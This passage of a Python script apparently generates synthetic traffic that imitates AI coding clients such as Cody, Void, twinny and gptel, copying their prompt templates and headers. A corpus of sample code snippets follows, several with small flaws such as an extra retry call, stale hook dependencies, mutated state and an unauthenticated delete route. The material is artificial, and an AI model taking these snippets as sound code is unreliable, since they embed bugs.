            user = ask_with_code(e)
        msgs.append({"role": "user", "content": user})
        body = {"model": model, "stream": True, "messages": msgs, "temperature": 1.1, "top_p": 1}
    else:
        tail = {
            "rewrite": "Respond exclusively with the snippet that should replace the selection above.",
            "append": "Respond exclusively with the snippet that should be appended after the selection above.",
            "prepend": "Respond exclusively with the snippet that should be prepended before the selection above.",
            "implement": None,
        }[mode]
        if mode == "implement":
            user = (f"Having following from {c.path}:\n\n```{c.lang}\n{c.text}```\n\n"
                    "Please rewrite this according to the contained instructions.\n"
                    "Respond exclusively with the snippet that should replace the selection above.")
        else:
            user = f"I have the following from {c.path}:\n\n```{c.lang}\n{c.text}```\n\n{e.ask}\n\n{tail}"
        msgs = [{"role": "system", "content": GP_CODE}, {"role": "user", "content": user}]
        body = {"model": model, "stream": True, "messages": msgs, "temperature": 0.8, "top_p": 1}
    return "/v1/chat/completions", {"User-Agent": "curl/8.5.0"}, body


def w_gptel(e: E):
    model = e.get("model", _pick(["gpt-4o-mini", "gpt-4o", "qwen2.5-coder:14b", "deepseek-chat", "mistral-small"], e.id))
    if e.get("rewrite"):
        c = e.code[0]
        msgs = [{"role": "system", "content": GPTEL_REWRITE.format(lang=LANG_NAME.get(c.lang, c.lang))},
                {"role": "user", "content": c.text},
                {"role": "assistant", "content": "What is the required change?"},
                {"role": "user", "content": e.ask}]
    else:
        system = {"default": GPTEL_DEFAULT, "programming": GPTEL_PROG}.get(e.get("directive", "default"))
        msgs = [{"role": "system", "content": system}] + chat_history(e)
        prefix = e.get("prefix", "")
        msgs.append({"role": "user", "content": prefix + ask_with_code(e)})
    body = {"model": model, "messages": msgs, "stream": True, "temperature": 1.0}
    return "/v1/chat/completions", {"User-Agent": "curl/8.5.0"}, body


def w_librechat(e: E):
    msgs = []
    if e.get("system"):
        msgs.append({"role": "system", "content": e.get("system")})
    msgs += chat_history(e)
    msgs.append({"role": "user", "content": ask_with_code(e)})
    body = {"model": e.get("model", _pick(["gpt-4o", "gpt-4.1", "deepseek-chat", "claude-sonnet-4-5", "qwen2.5-coder:32b", "gpt-4o-mini"], e.id)),
            "temperature": 1, "top_p": 1, "presence_penalty": 0, "frequency_penalty": 0,
            "stream": True, "user": hexid(24, "librechat", e.get("user", e.id)), "messages": msgs}
    headers = {"User-Agent": "OpenAI/JS 4.95.1", "X-Stainless-Lang": "js", "X-Stainless-Runtime": "node",
               "X-Stainless-Package-Version": "4.95.1"}
    return "/v1/chat/completions", headers, body


def w_cody_chat(e: E):
    msgs = [{"role": "system", "content": CODY_PREAMBLE},
            {"role": "user", "content": CODY_PREAMBLE},
            {"role": "assistant", "content": "I am Cody, an AI coding assistant from Sourcegraph."}]
    msgs = msgs[:1] + msgs[2:] if e.get("sys_role") else msgs[1:]
    for c in e.code:
        if isinstance(c, Snip):
            what = "selected code" if e.get("selection") else "file"
            msgs.append({"role": "user", "content": f"Codebase context from {what} {c.path}:\n```{c.lang}:{c.path}\n{c.text}```"})
            msgs.append({"role": "assistant", "content": "Ok."})
        else:
            msgs.append({"role": "user", "content": c})
            msgs.append({"role": "assistant", "content": "Ok."})
    msgs += chat_history(e)
    msgs.append({"role": "user", "content": e.ask})
    body = {"model": e.get("model", _pick(["claude-sonnet-4-5", "gpt-4o", "deepseek-coder", "qwen2.5-coder:32b"], e.id)),
            "messages": msgs, "max_tokens": 4000, "temperature": 0, "stream": True}
    return "/v1/chat/completions", {"User-Agent": "Cody-VSCode/1.90.0", "X-Requested-With": "Sourcegraph Cody VSCode 1.90.0"}, body


def w_cody_edit(e: E):
    c = e.code[0]
    intent = e.get("intent", "edit")
    before = e.get("before", "")
    after = e.get("after", "")
    if intent == "add":
        system = CODY_ADD_SYSTEM
        user = (f"This is part of the file: {c.path}\n\nThe user is currently working in the file and the code before the cursor is:\n"
                f"<PRECEDINGCODE>\n{c.text}</PRECEDINGCODE>\n\n"
                f"Provide your generated code using the following instructions:\n<INSTRUCTIONS7390>\n{e.ask}\n</INSTRUCTIONS7390>")
    elif intent == "test":
        system = CODY_TEST_SYSTEM
        user = (f"Here is my selected code from my codebase file {c.path}, enclosed in <SELECTEDCODE7662> tags:\n"
                f"<SELECTEDCODE7662>\n{c.text}</SELECTEDCODE7662>\n\n"
                f"As my programming assistant and an expert in testing code, follow instructions below to generate code for my selected code: {e.ask}\n\n"
                f"RULES:\n- Do not enclose response with any markdown formatting or triple backticks.\n"
                f"- Enclose only the generated code in <CODE5711> XML tags.\n- Your response must start with the suggested file path for the tests, enclosed in <TESTFILE7041> tags.")
    else:
        system = CODY_EDIT_SYSTEM
        ctx = ""
        if before or after:
            ctx = f"\n\nThe surrounding code is:\n{before}\n...\n{after}"
        user = (f"This is part of the file: {c.path}\n\nThe user has the following code in their selection:\n"
                f"<SELECTEDCODE7662>{c.text}</SELECTEDCODE7662>{ctx}\n\n"
                f"The user wants you to replace parts of the selected code or correct a problem by following their instructions.\n"
                f"Provide your generated code using the following instructions:\n<INSTRUCTIONS7390>\n{e.ask}\n</INSTRUCTIONS7390>")
    msgs = [{"role": "system", "content": system}, {"role": "user", "content": user},
            {"role": "assistant", "content": "<CODE5711>"}]
    body = {"model": e.get("model", _pick(["claude-sonnet-4-5", "gpt-4o", "qwen2.5-coder:32b"], e.id)), "messages": msgs,
            "max_tokens": 4000, "temperature": 0.2, "stop": ["</CODE5711>"], "stream": True}
    return "/v1/chat/completions", {"User-Agent": "Cody-VSCode/1.90.0", "X-Requested-With": "Sourcegraph Cody VSCode 1.90.0"}, body


def w_void_chat(e: E):
    c0 = next((c for c in e.code if isinstance(c, Snip)), None)
    repo = e.get("repo", "workspace")
    sysm = VOID_CHAT.format(os=_pick(["windows", "macos", "linux"], e.id), folders=f"/home/dev/{repo}" if "win" not in _pick(["windows", "macos", "linux"], e.id) else f"C:\\Users\\dev\\{repo}",
                            active=c0.path if c0 else "(none)", opened=", ".join(c.path for c in e.code if isinstance(c, Snip)) or "(none)",
                            date="10/16/2025")
    msgs = [{"role": "system", "content": sysm}] + chat_history(e)
    sel = []
    for c in e.code:
        if isinstance(c, Snip):
            sel.append(f"{c.path}\n```{c.lang}\n{c.text}```")
        else:
            sel.append(c)
    user = e.ask + ("\n\nSELECTIONS\n" + "\n\n".join(sel) if sel else "")
    msgs.append({"role": "user", "content": user})
    body = {"model": e.get("model", _pick(["gpt-4.1", "qwen2.5-coder:14b", "deepseek-chat", "claude-sonnet-4-5"], e.id)),
            "messages": msgs, "stream": True, "max_tokens": 8192}
    return "/v1/chat/completions", {"User-Agent": "OpenAI/JS 4.96.0", "X-Stainless-Lang": "js"}, body


def split_cursor(text: str) -> tuple[str, str]:
    assert text.count("<|C|>") == 1, text[:80]
    pre, suf = text.split("<|C|>")
    return pre, suf


def w_void_quick(e: E):
    # e.get("fim"): full text with <<< selection >>> markers around the selected part
    full = e.get("fim")
    pre, rest = full.split("<<<", 1)
    sel, suf = rest.split(">>>", 1)
    lang = e.lang
    user = (f"\nCURRENT SELECTION\n```{lang}\n<SELECTION>{sel}</SELECTION>\n```\n\nINSTRUCTIONS\n{e.ask}\n\n"
            f"<ABOVE>{pre}</ABOVE>\n<BELOW>{suf}</BELOW>\n\n"
            f"Return only the completion block of code (of the form ```{lang}\n<SELECTION>...new code</SELECTION>\n```).")
    msgs = [{"role": "system", "content": VOID_CTRLK}, {"role": "user", "content": user}]
    body = {"model": e.get("model", _pick(["qwen2.5-coder:14b", "gpt-4.1-mini", "deepseek-chat"], e.id)), "messages": msgs,
            "stream": True, "max_tokens": 4096}
    return "/v1/chat/completions", {"User-Agent": "OpenAI/JS 4.96.0", "X-Stainless-Lang": "js"}, body


def w_void_fim(e: E):
    pre, suf = split_cursor(e.get("fim"))
    body = {"model": e.get("model", _pick(["qwen2.5-coder:1.5b", "qwen2.5-coder:7b", "codestral-latest", "deepseek-coder:6.7b-base"], e.id)),
            "prompt": pre, "suffix": suf, "max_tokens": 300, "temperature": 0, "stream": True,
            "stop": ["\n\n", "\r\n\r\n"] if e.get("single_line") else ["\n\n\n"]}
    return "/v1/completions", {"User-Agent": "OpenAI/JS 4.96.0", "X-Stainless-Lang": "js"}, body


TWINNY_FIM = {
    "codellama": ("<PRE> ", " <SUF>", " <MID>"),
    "deepseek": ("<｜fim▁begin｜>", "<｜fim▁hole｜>", "<｜fim▁end｜>"),
    "qwen": ("<|fim_prefix|>", "<|fim_suffix|>", "<|fim_middle|>"),
    "starcoder": ("<fim_prefix>", "<fim_suffix>", "<fim_middle>"),
}
TWINNY_MODELS = {"codellama": "codellama:7b-code", "deepseek": "deepseek-coder:6.7b-base",
                 "qwen": "qwen2.5-coder:7b-base", "starcoder": "starcoder2:3b"}


def w_twinny(e: E):
    if e.get("chat"):
        msgs = [{"role": "system", "content": TWINNY_CHAT}] + chat_history(e)
        msgs.append({"role": "user", "content": ask_with_code(e)})
        body = {"model": e.get("model", "qwen2.5-coder:7b"), "messages": msgs, "stream": True, "temperature": 0.2, "max_tokens": 1024}
        return "/v1/chat/completions", {"User-Agent": "node-fetch"}, body
    fam = e.get("fam", _pick(list(TWINNY_FIM), e.id))
    p, s, m = TWINNY_FIM[fam]
    pre, suf = split_cursor(e.get("fim"))
    path = e.get("path", "src/index.ts")
    cm = EXT_COMMENT.get(e.lang, "//")
    header = f"{cm} Language: {LANG_NAME.get(e.lang, e.lang)} ({e.lang}) \n{cm} File uri: file:///home/dev/project/{path} ({e.lang}) \n"
    prompt = f"{p}{header}{pre}{s}{suf}{m}"
    body = {"model": e.get("model", TWINNY_MODELS[fam]), "prompt": prompt, "stream": True,
            "temperature": 0.2, "max_tokens": 512}
    return "/v1/completions", {"User-Agent": "node-fetch"}, body


def w_minuet(e: E):
    pre, suf = split_cursor(e.get("fim"))
    cm = EXT_COMMENT.get(e.lang, "#")
    tab = e.get("tab", "use 4 spaces for a tab")
    prompt = f"{cm} language: {e.lang}\n{cm} indentation: {tab}\n{pre}"
    body = {"model": e.get("model", _pick(["deepseek-chat", "qwen2.5-coder:7b", "codestral-latest", "qwen2.5-coder:3b"], e.id)),
            "prompt": prompt, "suffix": suf, "max_tokens": e.get("max_tokens", 256), "top_p": 0.9, "stream": True}
    return "/v1/completions", {"User-Agent": "curl/8.9.1"}, body


def w_slack(e: E):
    sysm = SLACK_SYSTEM.format(org=e.get("org", "Acme"), channel=e.get("channel", "eng-help"))
    msgs = [{"role": "system", "content": sysm}]
    for role, text in e.get("history", []):
        msgs.append({"role": role, "content": text})
    author = e.get("author", _pick(["dana.k", "Tomás", "wei.zhang", "ivan_p", "lena.m", "sora", "priya", "jbauer"], e.id))
    msgs.append({"role": "user", "content": f"{author}: " + ask_with_code(e)})
    body = {"model": e.get("model", _pick(["gpt-4o-mini", "gpt-4o", "sidecar/auto"], e.id)), "messages": msgs,
            "temperature": 0.3, "max_tokens": 1200, "user": "slack:" + hexid(9, e.id).upper()}
    headers = {"User-Agent": "OpenAI/Python 1.51.2", "X-Stainless-Lang": "python", "X-Stainless-Package-Version": "1.51.2",
               "X-Stainless-Runtime": "CPython", "X-Stainless-Runtime-Version": "3.12.6"}
    return "/v1/chat/completions", headers, body


def w_review_bot(e: E):
    bot = e.get("bot", "reviewbot")
    sysm = REVIEW_BOT_SYSTEM.format(bot=bot, forge=e.get("forge", "GitHub"), lang=HL_NAME[e.hl])
    msgs = [{"role": "system", "content": sysm}]
    msgs += chat_history(e)
    msgs.append({"role": "user", "content": ask_with_code(e)})
    body = {"model": e.get("model", _pick(["gpt-4.1", "o4-mini", "gpt-4o", "sidecar/auto"], e.id)), "messages": msgs,
            "temperature": 0.1, "max_tokens": 4096}
    if e.get("json"):
        body["response_format"] = {"type": "json_object"}
    headers = {"User-Agent": "OpenAI/JS 4.85.4", "X-Stainless-Lang": "js", "X-Request-Source": f"{bot}/github-action"}
    return "/v1/chat/completions", headers, body


def w_raw(e: E):
    tpl = e.get("tpl", "chatml")
    if tpl == "prompt":
        prompt = e.get("prompt")
    elif tpl == "chatml":
        sysm = e.get("system", RAW_CHATML_SYS[0])
        prompt = f"<|im_start|>system\n{sysm}<|im_end|>\n<|im_start|>user\n{ask_with_code(e)}<|im_end|>\n<|im_start|>assistant\n"
    elif tpl == "mistral":
        prompt = f"<s>[INST] {ask_with_code(e)} [/INST]"
    elif tpl == "alpaca":
        if e.code:
            inp = "\n\n".join(c.text if isinstance(c, Snip) else c for c in e.code)
            prompt = f"{ALPACA_HEAD_INPUT}### Instruction:\n{e.ask}\n\n### Input:\n{inp}\n### Response:\n"
        else:
            prompt = f"{ALPACA_HEAD}### Instruction:\n{e.ask}\n\n### Response:\n"
    elif tpl == "llama3":
        prompt = (f"<|begin_of_text|><|start_header_id|>system<|end_header_id|>\n\n{e.get('system', 'You are a helpful coding assistant.')}<|eot_id|>"
                  f"<|start_header_id|>user<|end_header_id|>\n\n{ask_with_code(e)}<|eot_id|><|start_header_id|>assistant<|end_header_id|>\n\n")
    else:
        raise ValueError(tpl)
    stops = {"chatml": ["<|im_end|>"], "mistral": ["</s>"], "alpaca": ["### Instruction:"], "llama3": ["<|eot_id|>"], "prompt": ["\n\n\n"]}[tpl]
    body = {"model": e.get("model", _pick(["qwen2.5-coder:7b-instruct", "mistral-7b-instruct-v0.3", "deepseek-coder", "local-model"], e.id)),
            "prompt": prompt, "max_tokens": e.get("max_tokens", 1024), "temperature": e.get("temperature", 0.2), "stop": stops}
    ua = e.get("ua", _pick(["python-requests/2.32.3", "OpenAI/Python 1.51.2", "python-httpx/0.27.2", "curl/8.5.0"], e.id))
    return "/v1/completions", {"User-Agent": ua}, body


CLIENTS = {
    "codex": ("Codex CLI", w_codex),
    "opencode": ("opencode", w_opencode),
    "qwen": ("Qwen Code", w_qwen),
    "goose": ("Goose", w_goose),
    "oi": ("Open Interpreter", w_oi),
    "avante_ask": ("avante.nvim (ask)", lambda e: w_avante(e, False)),
    "avante_edit": ("avante.nvim (edit)", lambda e: w_avante(e, True)),
    "cc_chat": ("CodeCompanion.nvim (chat)", w_cc_chat),
    "cc_inline": ("CodeCompanion.nvim (inline)", w_cc_inline),
    "gp": ("gp.nvim", w_gp),
    "gptel": ("gptel", w_gptel),
    "librechat": ("LibreChat", w_librechat),
    "cody_chat": ("Sourcegraph Cody (chat)", w_cody_chat),
    "cody_edit": ("Sourcegraph Cody (edit)", w_cody_edit),
    "void_chat": ("Void (chat)", w_void_chat),
    "void_quick": ("Void (quick edit)", w_void_quick),
    "void_fim": ("Void (autocomplete)", w_void_fim),
    "twinny": ("twinny", w_twinny),
    "minuet": ("minuet-ai.nvim", w_minuet),
    "slack": ("Slack bot (OpenAI SDK)", w_slack),
    "review_bot": ("CI review bot", w_review_bot),
    "raw": ("raw completions script", w_raw),
}


# ---------------------------------------------------------------------------------------
# Code snippets (hand-written)
# ---------------------------------------------------------------------------------------

snip("py_ratelimit", "python", "app/ratelimit.py", '''
import asyncio
import time


class TokenBucket:
    """Async token bucket: `rate` tokens per second, bursts up to `capacity`."""

    def __init__(self, rate: float, capacity: int):
        self.rate = rate
        self.capacity = capacity
        self.tokens = capacity
        self.updated = time.monotonic()
        self.lock = asyncio.Lock()

    def _refill(self):
        now = time.monotonic()
        elapsed = now - self.updated
        self.tokens = min(self.capacity, self.tokens + elapsed * self.rate)
        self.updated = now

    async def acquire(self, n: int = 1):
        async with self.lock:
            while True:
                self._refill()
                if self.tokens >= n:
                    self.tokens -= n
                    return
                wait = (n - self.tokens) / self.rate
                await asyncio.sleep(wait)

    def try_acquire(self, n: int = 1) -> bool:
        self._refill()
        if self.tokens >= n:
            self.tokens -= n
            return True
        return False
''')

snip("py_etl", "python", "etl/load_orders.py", '''
import csv
from datetime import datetime
from decimal import Decimal

from .db import get_conn


def load_orders(path, since=None):
    conn = get_conn()
    cur = conn.cursor()
    rows = []
    with open(path) as f:
        reader = csv.DictReader(f)
        for r in reader:
            created = datetime.strptime(r["created_at"], "%Y-%m-%d %H:%M:%S")
            if since and created < since:
                continue
            total = Decimal(r["total"])
            if r["currency"] != "EUR":
                total = total * Decimal(r.get("fx_rate", 1))
            rows.append((r["order_id"], r["customer_id"], created, total))
    for row in rows:
        cur.execute(
            "INSERT INTO orders (id, customer_id, created_at, total_eur) VALUES (%s, %s, %s, %s)",
            row,
        )
    conn.commit()
    return len(rows)
''')

snip("py_flask_users", "python", "api/users.py", '''
from flask import Blueprint, jsonify, request, abort
from werkzeug.security import generate_password_hash

from .models import db, User

bp = Blueprint("users", __name__, url_prefix="/users")


@bp.get("/")
def list_users():
    page = int(request.args.get("page", 1))
    q = User.query.order_by(User.created_at.desc())
    users = q.paginate(page=page, per_page=50)
    return jsonify([u.to_dict() for u in users.items])


@bp.get("/<int:user_id>")
def get_user(user_id):
    user = User.query.get(user_id)
    if user is None:
        abort(404)
    return jsonify(user.to_dict())


@bp.post("/")
def create_user():
    data = request.get_json()
    if User.query.filter_by(email=data["email"]).first():
        return jsonify({"error": "email taken"}), 409
    user = User(
        email=data["email"],
        name=data.get("name", ""),
        password_hash=generate_password_hash(data["password"]),
    )
    db.session.add(user)
    db.session.commit()
    return jsonify(user.to_dict()), 201


@bp.delete("/<int:user_id>")
def delete_user(user_id):
    user = User.query.get_or_404(user_id)
    db.session.delete(user)
    db.session.commit()
    return "", 204
''')

snip("py_retry", "python", "lib/retry.py", '''
import functools
import logging
import random
import time

log = logging.getLogger(__name__)


def retry(times=3, delay=0.5, exceptions=(Exception,)):
    def deco(fn):
        @functools.wraps(fn)
        def wrapper(*args, **kwargs):
            for attempt in range(times):
                try:
                    return fn(*args, **kwargs)
                except exceptions as exc:
                    log.warning("attempt %d of %s failed: %s", attempt + 1, fn.__name__, exc)
                    time.sleep(delay * (2 ** attempt) + random.random() / 10)
            return fn(*args, **kwargs)
        return wrapper
    return deco
''')

snip("py_ttlcache", "python", "lib/ttlcache.py", '''
import threading
import time
from collections import OrderedDict


class TTLCache:
    def __init__(self, maxsize=1024, ttl=300):
        self.maxsize = maxsize
        self.ttl = ttl
        self._data = OrderedDict()
        self._lock = threading.Lock()

    def get(self, key, default=None):
        with self._lock:
            item = self._data.get(key)
            if item is None:
                return default
            value, expires = item
            if expires < time.time():
                del self._data[key]
                return default
            self._data.move_to_end(key)
            return value

    def set(self, key, value):
        with self._lock:
            self._data[key] = (value, time.time() + self.ttl)
            self._data.move_to_end(key)
            if len(self._data) > self.maxsize:
                self._data.popitem(last=False)

    def __len__(self):
        return len(self._data)
''')

snip("py_nginx", "python", "tools/parse_access_log.py", '''
import re
import sys
from collections import Counter

LINE = re.compile(
    r'(?P<ip>\\S+) \\S+ \\S+ \\[(?P<ts>[^\\]]+)\\] "(?P<method>\\S+) (?P<path>\\S+) \\S+" '
    r'(?P<status>\\d{3}) (?P<size>\\d+|-) "(?P<ref>[^"]*)" "(?P<ua>[^"]*)"'
)


def parse(fh):
    for line in fh:
        m = LINE.match(line)
        if not m:
            continue
        d = m.groupdict()
        d["status"] = int(d["status"])
        d["size"] = 0 if d["size"] == "-" else int(d["size"])
        yield d


def main():
    statuses = Counter()
    paths = Counter()
    for rec in parse(sys.stdin):
        statuses[rec["status"]] += 1
        if rec["status"] >= 500:
            paths[rec["path"]] += 1
    for status, n in sorted(statuses.items()):
        print(f"{status}\\t{n}")
    print("top 5xx paths:")
    for path, n in paths.most_common(10):
        print(f"  {n:6d} {path}")


if __name__ == "__main__":
    main()
''')

snip("py_invoice", "python", "billing/invoice.py", '''
from dataclasses import dataclass, field
from decimal import Decimal, ROUND_HALF_UP


@dataclass
class LineItem:
    sku: str
    qty: int
    unit_price: Decimal
    vat_rate: Decimal = Decimal("0.20")


@dataclass
class Invoice:
    number: str
    customer: str
    items: list[LineItem] = field(default_factory=list)
    discount: Decimal = Decimal("0")

    def subtotal(self) -> Decimal:
        return sum(i.qty * i.unit_price for i in self.items)

    def vat(self) -> Decimal:
        return sum(i.qty * i.unit_price * i.vat_rate for i in self.items)

    def total(self) -> Decimal:
        t = self.subtotal() + self.vat() - self.discount
        return t.quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)
''')

snip("py_django_orders", "python", "shop/models.py", '''
from django.conf import settings
from django.db import models


class Order(models.Model):
    class Status(models.TextChoices):
        PENDING = "pending"
        PAID = "paid"
        SHIPPED = "shipped"
        CANCELLED = "cancelled"

    user = models.ForeignKey(settings.AUTH_USER_MODEL, on_delete=models.CASCADE, related_name="orders")
    status = models.CharField(max_length=16, choices=Status.choices, default=Status.PENDING)
    created_at = models.DateTimeField(auto_now_add=True)
    shipping_address = models.TextField()

    def total(self):
        return sum(item.price * item.quantity for item in self.items.all())

    def __str__(self):
        return f"Order #{self.pk} ({self.status})"


class OrderItem(models.Model):
    order = models.ForeignKey(Order, on_delete=models.CASCADE, related_name="items")
    product = models.ForeignKey("catalog.Product", on_delete=models.PROTECT)
    quantity = models.PositiveIntegerField(default=1)
    price = models.DecimalField(max_digits=10, decimal_places=2)
''')

snip("py_s3sync", "python", "scripts/s3sync.py", '''
#!/usr/bin/env python3
"""Mirror a local folder to an S3 prefix (upload new/changed files only)."""
import argparse
import hashlib
import os

import boto3


def md5(path):
    h = hashlib.md5()
    with open(path, "rb") as f:
        for chunk in iter(lambda: f.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def remote_etags(s3, bucket, prefix):
    etags = {}
    paginator = s3.get_paginator("list_objects_v2")
    for page in paginator.paginate(Bucket=bucket, Prefix=prefix):
        for obj in page.get("Contents", []):
            etags[obj["Key"]] = obj["ETag"].strip('"')
    return etags


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src")
    ap.add_argument("bucket")
    ap.add_argument("--prefix", default="")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()

    s3 = boto3.client("s3")
    existing = remote_etags(s3, args.bucket, args.prefix)
    uploaded = 0
    for root, _, files in os.walk(args.src):
        for name in files:
            local = os.path.join(root, name)
            key = os.path.join(args.prefix, os.path.relpath(local, args.src))
            if existing.get(key) == md5(local):
                continue
            print("upload", local, "->", key)
            if not args.dry_run:
                s3.upload_file(local, args.bucket, key)
            uploaded += 1
    print(f"{uploaded} files uploaded")


if __name__ == "__main__":
    main()
''')

snip("ts_debounce_hook", "typescript", "src/hooks/useDebouncedSearch.ts", '''
import { useEffect, useRef, useState } from "react";
import { searchProducts, type Product } from "../api/products";

export function useDebouncedSearch(query: string, delay = 300) {
  const [results, setResults] = useState<Product[]>([]);
  const [loading, setLoading] = useState(false);
  const [error, setError] = useState<Error | null>(null);
  const timer = useRef<number>();

  useEffect(() => {
    if (!query) {
      setResults([]);
      return;
    }
    window.clearTimeout(timer.current);
    timer.current = window.setTimeout(async () => {
      setLoading(true);
      try {
        const res = await searchProducts(query);
        setResults(res.items);
      } catch (e) {
        setError(e as Error);
      } finally {
        setLoading(false);
      }
    }, delay);
  }, [query]);

  return { results, loading, error };
}
''')

snip("ts_express_orders", "typescript", "src/routes/orders.ts", '''
import { Router, type Request, type Response } from "express";
import { z } from "zod";
import { db } from "../db";
import { requireAuth } from "../middleware/auth";

const router = Router();

const CreateOrder = z.object({
  items: z.array(z.object({ sku: z.string(), qty: z.number().int().positive() })).min(1),
  couponCode: z.string().optional(),
});

router.get("/", requireAuth, async (req: Request, res: Response) => {
  const orders = await db.order.findMany({
    where: { userId: req.user!.id },
    orderBy: { createdAt: "desc" },
    include: { items: true },
  });
  res.json(orders);
});

router.post("/", requireAuth, async (req: Request, res: Response) => {
  const parsed = CreateOrder.safeParse(req.body);
  if (!parsed.success) {
    return res.status(400).json({ error: parsed.error.flatten() });
  }
  const { items, couponCode } = parsed.data;
  const products = await db.product.findMany({ where: { sku: { in: items.map((i) => i.sku) } } });
  let total = 0;
  for (const item of items) {
    const p = products.find((x) => x.sku === item.sku);
    if (!p) return res.status(422).json({ error: `unknown sku ${item.sku}` });
    total += p.priceCents * item.qty;
  }
  if (couponCode) {
    const coupon = await db.coupon.findUnique({ where: { code: couponCode } });
    if (coupon) total = Math.round(total * (1 - coupon.percentOff / 100));
  }
  const order = await db.order.create({
    data: { userId: req.user!.id, totalCents: total, items: { create: items } },
  });
  res.status(201).json(order);
});

export default router;
''')

snip("ts_cart_store", "typescript", "src/store/cart.ts", '''
import { create } from "zustand";
import { persist } from "zustand/middleware";

export interface CartItem {
  sku: string;
  name: string;
  priceCents: number;
  qty: number;
}

interface CartState {
  items: CartItem[];
  add: (item: Omit<CartItem, "qty">, qty?: number) => void;
  remove: (sku: string) => void;
  setQty: (sku: string, qty: number) => void;
  clear: () => void;
  totalCents: () => number;
}

export const useCart = create<CartState>()(
  persist(
    (set, get) => ({
      items: [],
      add: (item, qty = 1) =>
        set((s) => {
          const existing = s.items.find((i) => i.sku === item.sku);
          if (existing) {
            existing.qty += qty;
            return { items: s.items };
          }
          return { items: [...s.items, { ...item, qty }] };
        }),
      remove: (sku) => set((s) => ({ items: s.items.filter((i) => i.sku !== sku) })),
      setQty: (sku, qty) =>
        set((s) => ({ items: s.items.map((i) => (i.sku === sku ? { ...i, qty } : i)) })),
      clear: () => set({ items: [] }),
      totalCents: () => get().items.reduce((sum, i) => sum + i.priceCents * i.qty, 0),
    }),
    { name: "cart" },
  ),
);
''')

snip("ts_api_client", "typescript", "src/lib/apiClient.ts", '''
export class ApiError extends Error {
  constructor(public status: number, public body: unknown) {
    super(`API error ${status}`);
  }
}

type Options = { baseUrl: string; token?: () => string | undefined; timeoutMs?: number };

export class ApiClient {
  constructor(private opts: Options) {}

  private async request<T>(method: string, path: string, body?: unknown): Promise<T> {
    const controller = new AbortController();
    const t = setTimeout(() => controller.abort(), this.opts.timeoutMs ?? 10000);
    const headers: Record<string, string> = { "Content-Type": "application/json" };
    const token = this.opts.token?.();
    if (token) headers["Authorization"] = `Bearer ${token}`;
    const res = await fetch(this.opts.baseUrl + path, {
      method,
      headers,
      body: body === undefined ? undefined : JSON.stringify(body),
      signal: controller.signal,
    });
    clearTimeout(t);
    const text = await res.text();
    const data = text ? JSON.parse(text) : undefined;
    if (!res.ok) throw new ApiError(res.status, data);
    return data as T;
  }

  get<T>(path: string) {
    return this.request<T>("GET", path);
  }
  post<T>(path: string, body: unknown) {
    return this.request<T>("POST", path, body);
  }
  put<T>(path: string, body: unknown) {
    return this.request<T>("PUT", path, body);
  }
  delete<T>(path: string) {
    return this.request<T>("DELETE", path);
  }
}
''')

snip("ts_dates", "typescript", "src/utils/dates.ts", '''
export function startOfWeek(d: Date, weekStartsOn = 1): Date {
  const day = d.getDay();
  const diff = (day < weekStartsOn ? 7 : 0) + day - weekStartsOn;
  const out = new Date(d);
  out.setDate(d.getDate() - diff);
  out.setHours(0, 0, 0, 0);
  return out;
}

export function addDays(d: Date, n: number): Date {
  const out = new Date(d);
  out.setDate(out.getDate() + n);
  return out;
}

export function isSameDay(a: Date, b: Date): boolean {
  return a.getFullYear() === b.getFullYear() && a.getMonth() === b.getMonth() && a.getDate() === b.getDate();
}

export function formatRelative(d: Date, now = new Date()): string {
  const secs = Math.round((now.getTime() - d.getTime()) / 1000);
  if (secs < 60) return "just now";
  if (secs < 3600) return `${Math.floor(secs / 60)} min ago`;
  if (secs < 86400) return `${Math.floor(secs / 3600)} h ago`;
  return d.toLocaleDateString();
}
''')

snip("js_fs_callbacks", "javascript", "lib/thumbnails.js", '''
const fs = require("fs");
const path = require("path");
const sharp = require("sharp");

function makeThumbnails(srcDir, outDir, size, cb) {
  fs.readdir(srcDir, function (err, files) {
    if (err) return cb(err);
    var pending = files.length;
    var made = [];
    if (!pending) return cb(null, made);
    files.forEach(function (file) {
      if (!/\\.(jpe?g|png)$/i.test(file)) {
        if (--pending === 0) cb(null, made);
        return;
      }
      var out = path.join(outDir, "thumb_" + file);
      sharp(path.join(srcDir, file))
        .resize(size, size, { fit: "inside" })
        .toFile(out, function (err) {
          if (err) return cb(err);
          made.push(out);
          if (--pending === 0) cb(null, made);
        });
    });
  });
}

module.exports = { makeThumbnails };
''')

snip("js_jquery_form", "javascript", "public/js/signup.js", '''
$(function () {
  var $form = $("#signup-form");
  var $btn = $form.find("button[type=submit]");

  $form.on("submit", function (e) {
    e.preventDefault();
    var email = $("#email").val().trim();
    var pw = $("#password").val();
    if (!email || email.indexOf("@") === -1) {
      $("#email-error").text("Please enter a valid email").show();
      return;
    }
    if (pw.length < 8) {
      $("#password-error").text("Password must be at least 8 characters").show();
      return;
    }
    $btn.prop("disabled", true).text("Signing up...");
    $.ajax({
      url: "/api/signup",
      method: "POST",
      data: JSON.stringify({ email: email, password: pw }),
      contentType: "application/json",
      success: function (res) {
        window.location = res.redirect || "/welcome";
      },
      error: function (xhr) {
        var msg = (xhr.responseJSON && xhr.responseJSON.error) || "Something went wrong";
        $("#form-error").text(msg).show();
        $btn.prop("disabled", false).text("Sign up");
      }
    });
  });
});
''')

snip("js_emitter", "javascript", "src/emitter.js", '''
export class Emitter {
  constructor() {
    this.handlers = {};
  }

  on(event, fn) {
    (this.handlers[event] ||= []).push(fn);
    return () => this.off(event, fn);
  }

  off(event, fn) {
    const list = this.handlers[event];
    if (!list) return;
    this.handlers[event] = list.filter((h) => h !== fn);
  }

  once(event, fn) {
    const off = this.on(event, (...args) => {
      off();
      fn(...args);
    });
  }

  emit(event, ...args) {
    for (const h of this.handlers[event] || []) {
      h(...args);
    }
  }
}
''')

snip("js_webpack", "javascript", "webpack.config.js", '''
const path = require("path");
const HtmlWebpackPlugin = require("html-webpack-plugin");
const MiniCssExtractPlugin = require("mini-css-extract-plugin");

const isProd = process.env.NODE_ENV === "production";

module.exports = {
  mode: isProd ? "production" : "development",
  entry: { main: "./src/index.js", admin: "./src/admin/index.js" },
  output: {
    path: path.resolve(__dirname, "dist"),
    filename: isProd ? "[name].[contenthash].js" : "[name].js",
    publicPath: "/",
  },
